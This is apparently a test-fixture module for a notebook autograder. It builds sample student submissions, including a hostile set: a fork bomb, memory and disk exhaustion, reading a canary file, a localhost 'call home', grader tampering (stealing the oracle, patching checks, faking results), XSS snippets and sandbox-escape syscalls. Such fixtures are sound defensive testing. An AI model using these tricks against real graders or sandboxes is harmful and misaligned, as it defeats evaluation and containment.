"""Submissions made for the tests: right, half, wrong, broken, and hostile ones, by their kind."""

import inspect
import itertools
import json
from collections.abc import Callable
from pathlib import Path

import nbformat

from tests.fmnist_utils.checks.wrong_answers import read_the_bytes as wrong_answers

ROOT = Path(__file__).parents[2]
SHEET = "01_read_the_bytes"

LAST_FOUR = ("write_labels", "why_shifted", "read_strictly", "repair_count")

#: Where hostile code looks for what it must not see or reach; tests put the real paths and port in.
CANARY, PORT = "@CANARY@", "@PORT@"


def notebook(folder: str = "solutions", sheet: str = SHEET) -> nbformat.NotebookNode:
    """Return a sheet's notebook: the solution as a student would write it, or the exercise."""
    made = nbformat.read(ROOT / folder / sheet / f"{sheet}.ipynb", as_version=4)
    for cell in made.cells:
        cell.source = "\n".join(line for line in cell.source.split("\n") if not _is_mark(line))
    return made


def _is_mark(line: str) -> bool:
    return line.strip() in ("### BEGIN SOLUTION", "### END SOLUTION")


def with_answer(task: str, source: str) -> nbformat.NotebookNode:
    """Return the solution with another answer to one task."""
    made = notebook()
    for cell in made.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == task:
            cell.source = source
    return made


def with_first_cell(source: str) -> nbformat.NotebookNode:
    """Return the solution with code before everything else."""
    made = notebook()
    made.cells.insert(0, nbformat.v4.new_code_cell(source))
    return made


def with_last_cell(source: str) -> nbformat.NotebookNode:
    """Return the solution with code behind everything else."""
    made = notebook()
    made.cells.append(nbformat.v4.new_code_cell(source))
    return made


def with_cell_below(task: str, source: str) -> nbformat.NotebookNode:
    """Return the solution with a cell more, between an answer and its check."""
    made = notebook()
    ids = [cell.metadata.get("nbgrader", {}).get("grade_id") for cell in made.cells]
    made.cells.insert(ids.index(task) + 1, nbformat.v4.new_code_cell(source))
    return made


def in_the_checks_cell() -> nbformat.NotebookNode:
    """Return the solution with each answer and its check in one cell, that of the check."""
    made = notebook()
    for answer, check in itertools.pairwise(made.cells):
        if check.metadata.get("nbgrader", {}).get("grade"):
            check.source = f"{answer.source}\n\n{check.source}"
            answer.source = ""
    return made


def in_markdown() -> nbformat.NotebookNode:
    """Return the solution with one answer in a Markdown cell."""
    made = notebook()
    for cell in made.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "read_labels":
            cell.cell_type = "markdown"
            del cell["outputs"], cell["execution_count"]
    return made


def half() -> nbformat.NotebookNode:
    """Return the exercise with its first four tasks answered."""
    made, right = notebook("exercises"), notebook()
    answers = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in right.cells}
    for cell in made.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name in ("read_header", "read_labels", "read_after_preamble", "read_int16"):
            cell.source = answers[name]
    return made


def renamed() -> nbformat.NotebookNode:
    """Return the solution with a function under another name."""
    made = notebook()
    for cell in made.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "read_labels":
            cell.source = cell.source.replace("def read_labels", "def my_read_labels")
    return made


def without_metadata() -> nbformat.NotebookNode:
    """Return the solution as a program that drops cells' metadata would save it."""
    made = notebook()
    made.cells = [c for c in made.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    for cell in made.cells:
        cell.metadata = nbformat.NotebookNode()
    return made


def markdown_only() -> nbformat.NotebookNode:
    """Return a notebook of words."""
    made = notebook()
    made.cells = [cell for cell in made.cells if cell.cell_type == "markdown"]
    return made


def bytes_of(made: nbformat.NotebookNode | bytes) -> bytes:
    """Return a notebook as a file."""
    return made if isinstance(made, bytes) else nbformat.writes(made).encode()


#: What an answer to read_labels may do instead: the state that the task must get.
_LABELS = "def read_labels(content):\n    "

#: Harmless submissions: how to make one, and the state of each task (all others are right).
PLAIN: dict[str, tuple[Callable, dict[str, str] | str]] = {
    "right": (notebook, {}),
    "untouched": (lambda: notebook("exercises"), "not started"),
    "half": (
        half,
        dict.fromkeys(
            ("write_labels", "why_shifted", "read_strictly", "repair_count"), "not started"
        ),
    ),
    "wrong offset": (
        lambda: with_answer("read_labels", _LABELS + "return np.frombuffer(content, np.uint8)"),
        {"read_labels": "wrong"},
    ),
    "little-endian": (
        lambda: with_answer(
            "read_header",
            "def read_header(content):\n"
            "    return content[2], tuple(np.frombuffer(content, '<u4', content[3], 4).tolist())",
        ),
        {"read_header": "wrong"},
    ),
    "error": (
        lambda: with_answer("read_labels", _LABELS + "return content[8:].reshape(-1)"),
        {"read_labels": "error"},
    ),
    "renamed": (renamed, {"read_labels": "not executed"}),
    "empty notebook": (nbformat.v4.new_notebook, "not executed"),
    "empty file": (lambda: b"", "not executed"),
    "broken JSON": (lambda: bytes_of(notebook())[:2000], "not executed"),
    "other JSON": (lambda: json.dumps({"a": [1, 2]}).encode(), "not executed"),
    "not UTF-8": (lambda: bytes_of(notebook()).replace(b"rank", b"r\xe4nk", 1), "not executed"),
    "Python 2": (
        lambda: with_answer("read_labels", _LABELS + "print content\n    return 1"),
        {"read_labels": "not executed"},
    ),
    "markdown only": (markdown_only, "not executed"),
    "without metadata": (without_metadata, {}),
    "answers in the checks' cells": (in_the_checks_cell, {}),
    "answer in Markdown": (in_markdown, {"read_labels": "not executed"}),
    "stub below the answer": (
        lambda: with_cell_below("read_labels", _LABELS + "raise NotImplementedError()"),
        {},
    ),
    "helper's name used again": (
        lambda: with_last_cell("def np(): return None\nstruct = None"),
        {},
    ),
    "all reset at the end": (lambda: with_last_cell("%reset -f"), {}),
    "failing cell at the end": (lambda: with_last_cell("1/0"), {}),
    "a long number": (lambda: with_last_cell("X = 0x" + "f" * 4000 + " + 1" * 60), {}),
    "20,000 empty lines": (lambda: with_last_cell("\n" * 20_000 + "x = 1"), {}),
    "magics": (lambda: with_first_cell("%matplotlib inline\n!ls\n%time x = 1"), {}),
}


def _known_wrong_answers() -> dict[str, tuple[Callable, dict[str, str]]]:
    """Return a submission for each misconception that the sheet's check knows."""
    made = {}
    for name, function in inspect.getmembers(wrong_answers, inspect.isfunction):
        task, separator, misconception = name.partition("__")
        if separator and function.__module__ == wrong_answers.__name__:
            source = inspect.getsource(function).replace(f"def {name}", f"def {task}")
            source = f"import struct\nimport numpy as np\n{source}"
            made[f"misconception: {task}, {misconception}"] = (
                lambda task=task, source=source: with_answer(task, source),
                {task: "wrong|error"},
            )
    return made


#: One answer of each is wrong in a way that is known.
WRONG_ANSWERS = _known_wrong_answers()

_SYSTEM = "import ctypes, os, subprocess\nsystem, size = ctypes.CDLL(None), ctypes.c_size_t\n"


def _refused(call: str) -> str:
    """Return a line that stops if a call fails, with an error or with a number that says so."""
    return f"assert ({call}) in range(10**9), 'refused'"


#: Defines a function that sends a reply as the program around the notebook does.
_FORGED = """import gc, json
def forge(value, name="value"):
    for it in gc.get_objects():
        if type(it).__name__ == "Notebook" and hasattr(it, "replies"):
            it.replies.write(b'{"to": %d, "%s": %s}\\n' % (it.request, name.encode(), value))
            it.replies.flush()
"""
_FORGED_NETWORK = """
    layers = [{"module": "keras.layers", "class_name": "InputLayer",
               "config": {"batch_shape": [None, 1], "dtype": "float32", "name": "i"}}]
    layers += [{"module": "keras.layers", "class_name": "Dense",
                "config": {"units": 1, "name": f"d{n}"}} for n in range(2000)]
    config = {"name": "s", "trainable": True, "dtype": "float32", "layers": layers}
    network = {"module": "keras", "class_name": "Sequential", "config": config}
    forge(json.dumps({"model": json.dumps(network), "weights": []}).encode())
    return 1"""


#: Hostile submissions, likewise; of several states, either.
HOSTILE: dict[str, tuple[Callable, dict[str, str] | str]] = {
    "endless loop in a function": (
        lambda: with_answer("read_labels", _LABELS + "while True: pass"),
        {"read_labels": "timed out"},
    ),
    "endless loop that catches everything": (
        lambda: with_answer(
            "read_labels",
            _LABELS + "while True:\n        try:\n            while True: pass\n"
            "        except BaseException: pass",
        ),
        {"read_labels": "timed out"},
    ),
    "endless loop in a cell": (lambda: with_last_cell("while True: pass"), {}),
    "fork bomb": (
        lambda: with_answer("read_labels", "import os\n" + _LABELS + "while True: os.fork()"),
        {"read_labels": "error|timed out|not executed|over memory"},
    ),
    "30 GB": (
        lambda: with_answer("read_labels", _LABELS + "return bytearray(30_000_000_000)"),
        {"read_labels": "over memory"},
    ),
    "creeping memory": (
        lambda: with_answer(
            "read_labels",
            _LABELS + "kept = []\n    while True: kept.append(np.ones(4_000_000))",
        ),
        {"read_labels": "over memory|timed out"},
    ),
    "300 MB of print": (
        lambda: with_answer("read_labels", _LABELS + "for _ in range(300): print('x' * 1_000_000)"),
        {"read_labels": "over output"},
    ),
    "300 MB past Python": (
        lambda: with_answer(
            "read_labels",
            "import os\n"
            + _LABELS
            + "for _ in range(300): os.write(1, b'x' * 1_000_000)\n    return 1",
        ),
        {"read_labels": "wrong"},
    ),
    "os._exit": (
        lambda: with_answer("read_labels", "import os\n" + _LABELS + "os._exit(0)"),
        {"read_labels": "not executed"},
    ),
    "sys.exit": (
        lambda: with_answer("read_labels", "import sys\n" + _LABELS + "sys.exit(0)"),
        {"read_labels": "error"},
    ),
    "segmentation fault": (
        lambda: with_answer("read_labels", "import ctypes\n" + _LABELS + "ctypes.string_at(0)"),
        {"read_labels": "not executed"},
    ),
    "reads the canary": (
        lambda: with_answer(
            "read_labels",
            _LABELS + f"return np.frombuffer(open('{CANARY}', 'rb').read(), np.uint8)",
        ),
        {"read_labels": "error"},
    ),
    "writes the canary": (
        lambda: with_answer("read_labels", _LABELS + f"open('{CANARY}', 'w').write('x')"),
        {"read_labels": "error"},
    ),
    "calls home": (
        lambda: with_answer(
            "read_labels",
            "import socket\n"
            + _LABELS
            + f"socket.create_connection(('127.0.0.1', {PORT}), 2).send(content)",
        ),
        {"read_labels": "error"},
    ),
    "leaves a daemon": (
        lambda: with_answer(
            "read_labels",
            "import os, time\n"
            + _LABELS
            + "if os.fork() == 0:\n        os.setsid()\n        time.sleep(3600)\n    return 1",
        ),
        {"read_labels": "wrong"},
    ),
    "looks for the right answers": (
        lambda: with_answer(
            "read_labels",
            "from fmnist_utils.checks import read_the_bytes\n"
            + _LABELS
            + "evaluate = read_the_bytes.sheet.tasks['read_labels'].evaluate\n"
            + "    cells = dict(zip(evaluate.__code__.co_freevars, evaluate.__closure__))\n"
            + "    return cells['oracle'].cell_contents(content)",
        ),
        {"read_labels": "error"},
    ),
    "equal to everything": (
        lambda: with_answer(
            "read_labels",
            "class Equal:\n    __eq__ = lambda *_: True\n    __hash__ = lambda _: 0\n"
            "    def __getattr__(self, name): return self\n" + _LABELS + "return Equal()",
        ),
        {"read_labels": "wrong"},
    ),
    "strips asserts": (
        lambda: with_answer(
            "read_labels",
            "import ast\n"
            "class Strip(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node): return ast.Pass()\n"
            "get_ipython().ast_transformers.append(Strip())\n" + _LABELS + "return 1",
        ),
        {"read_labels": "wrong"},
    ),
    "patched numpy": (
        lambda: with_answer(
            "read_labels",
            "np.array_equal = np.allclose = lambda *_, **__: True\n"
            "np.testing.assert_array_equal = lambda *_, **__: None\n"
            + _LABELS
            + "return np.zeros(3)",
        ),
        {"read_labels": "wrong"},
    ),
    "patched check": (
        lambda: with_answer(
            "read_labels", "check.read_labels = lambda f: print('right')\n" + _LABELS + "return 1"
        ),
        {"read_labels": "wrong"},
    ),
    "fake result file": (
        lambda: with_answer(
            "read_labels",
            "import json\njson.dump({'read_labels': 'right'}, open('results.json', 'w'))\n"
            + _LABELS
            + "return 1",
        ),
        {"read_labels": "wrong"},
    ),
    "fake replies": (
        lambda: with_answer(
            "read_labels",
            "import os\n" + _LABELS + "for number in range(3, 20):\n"
            "        try: os.write(number, b'{\"value\": true}\\n' * 50)\n"
            "        except OSError: pass\n"
            "    return 1",
        ),
        {"read_labels": "wrong|not executed"},
    ),
    "endless reply": (
        lambda: with_answer("read_labels", _LABELS + "return np.zeros(60_000_000)"),
        {"read_labels": "wrong|not executed|over memory"},
    ),
    "number of 5,000 digits": (
        lambda: with_answer("read_labels", _LABELS + "return 10**5000"),
        {"read_labels": "wrong"},
    ),
    "error without a name": (
        lambda: with_answer(
            "read_labels",
            "class E(Exception): pass\nE.__name__ = ''\n" + _LABELS + "raise E()",
        ),
        {"read_labels": "error"},
    ),
    "text that is none": (
        lambda: with_answer(
            "read_labels", _LABELS + "return np.full(3, 0xFFFFFFFF, np.uint32).view('<U1')"
        ),
        {"read_labels": "wrong|not executed"},
    ),
    "alarm switched off": (
        lambda: with_answer(
            "read_labels",
            "import signal\n" + _LABELS + "for number in (signal.SIGALRM, signal.SIGPROF):\n"
            "        signal.signal(number, signal.SIG_IGN)\n    while True: pass",
        ),
        {"read_labels": "timed out"},
    ),
    "fills the sandbox's folder": (
        lambda: with_answer(
            "read_labels",
            _LABELS
            + "for n in range(50): open(f'/tmp/{n}', 'wb').write(bytes(10_000_000))\n    return 1",
        ),
        {"read_labels": "error"},
    ),
    "script in Markdown": (
        lambda: _with_markdown("<script>alert(1)</script><img src=x onerror=alert(1)>"),
        {},
    ),
    "script in code": (
        lambda: with_answer(
            "read_labels", "# </pre><script>alert(1)</script>\n" + _LABELS + "return '<script>'"
        ),
        {"read_labels": "wrong"},
    ),
    "leaves a text in the kernel's keyring": (
        lambda: with_answer(
            "read_labels",
            _SYSTEM + _LABELS + _refused("system.syscall(248, b'user', b'x', b'y', size(1), -4)"),
        ),
        {"read_labels": "error"},
    ),
    "shared memory of no process": (
        lambda: with_answer(
            "read_labels", _SYSTEM + _LABELS + _refused("system.shmget(0, 1 << 30, 0o1600)")
        ),
        {"read_labels": "error"},
    ),
    "a file in memory of no folder": (
        lambda: with_answer("read_labels", _SYSTEM + _LABELS + _refused("os.memfd_create('x')")),
        {"read_labels": "error"},
    ),
    "a namespace with a folder of its own": (
        lambda: with_answer(
            "read_labels",
            _SYSTEM
            + _LABELS
            + "return subprocess.run('unshare -Urm mount -t tmpfs x /tmp'.split()).returncode",
        ),
        {"read_labels": "wrong"},
    ),
    "calls the machine's host": (
        lambda: with_answer(
            "read_labels", "import socket\n" + _LABELS + "socket.socket(socket.AF_VSOCK)"
        ),
        {"read_labels": "error"},
    ),
    "100,000 files": (
        lambda: with_answer(
            "read_labels", _LABELS + "for n in range(100_000): open(f'/tmp/{n}', 'x').close()"
        ),
        {"read_labels": "error"},
    ),
    "8,000 tags": (lambda: _with_tags(8000), {}),
    "a network of 2,000 layers": (
        lambda: with_answer("read_labels", _FORGED + _LABELS + _FORGED_NETWORK),
        {"read_labels": "wrong|not executed"},
    ),
    "a reply of ten million values": (
        lambda: with_answer(
            "read_labels",
            _FORGED + _LABELS + "forge(b'[' + b'{},' * 10_000_000 + b'{}]')\n    return 1",
        ),
        {"read_labels": "wrong|not executed"},
    ),
    "replies about cells of 50 MB": (
        lambda: with_first_cell(_FORGED + "forge(b'\"' + b'x' * 50_000_000 + b'\"', 'error')"),
        "not executed",
    ),
    "100 MB": (lambda: _with_markdown("x" * 100_000_000), "not executed"),
    "deep JSON": (lambda: b"[" * 100_000 + b"]" * 100_000, "not executed"),
}


def _with_tags(count: int) -> nbformat.NotebookNode:
    made = notebook()
    made.cells[0].metadata.tags = [f"tag{number}" for number in range(count)]
    return made


def _with_markdown(text: str) -> nbformat.NotebookNode:
    made = notebook()
    made.cells.append(nbformat.v4.new_markdown_cell(text))
    return made
